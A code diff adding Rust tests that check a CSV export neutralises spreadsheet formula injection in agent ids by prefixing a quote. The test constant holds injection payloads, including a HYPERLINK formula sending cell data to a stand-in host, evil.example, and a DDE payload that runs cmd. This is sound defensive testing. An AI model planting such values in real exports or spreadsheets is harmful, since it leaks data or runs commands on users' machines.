@@ -653,3 +653,56 @@ async fn an_agent_first_seen_at_14_00_is_judged_on_the_afternoon_in_every_format
         "{html}"
     );
 }
+
+/// Agent ids a spreadsheet would run as formulas (OWASP's CSV injection examples).
+pub(crate) const FORMULA_IDS: [&str; 6] = [
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "-2+3",
+    "\tSUM(1)",
+    "\r=1+1",
+];
+
+#[test]
+fn text_cells_that_start_a_formula_get_a_quote_and_others_stay() {
+    for id in FORMULA_IDS {
+        assert_eq!(text_cell(id), format!("'{id}"));
+    }
+    for plain in ["u_001", "Care team", "", "a=b", "1-2", "'quoted"] {
+        assert_eq!(text_cell(plain), plain);
+    }
+}
+
+#[tokio::test]
+async fn csv_neutralises_agent_ids_a_spreadsheet_would_run_as_formulas() {
+    let (store, _dir) = fixture().await;
+    for id in FORMULA_IDS {
+        enter(&store, id, AgentState::Idle, minutes(10)).await;
+    }
+    let report = build(&store, minutes(120)).await;
+    assert_eq!(report.agents.len(), 3 + FORMULA_IDS.len());
+    let text = render(&store, &report, Format::Csv).await.text();
+    let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(text.as_bytes())
+        .records()
+        .map(Result::unwrap)
+        .collect();
+    let ids: Vec<&str> = rows.iter().map(|row| &row[0]).collect();
+    for id in FORMULA_IDS {
+        assert!(
+            ids.contains(&format!("'{id}").as_str()),
+            "{id:?} not neutralised: {ids:?}"
+        );
+    }
+    assert!(ids.contains(&"a1"), "a plain id is unchanged");
+    // The figures (all but the id and the window's ends) are still numbers.
+    for row in &rows {
+        let figures = row.iter().skip(1).take(csv_export::COLUMNS.len() - 3);
+        for figure in figures {
+            assert!(
+                figure.is_empty() || figure.parse::<f64>().is_ok(),
+                "{figure:?} in {row:?}"
+            );
+        }
+    }
+}
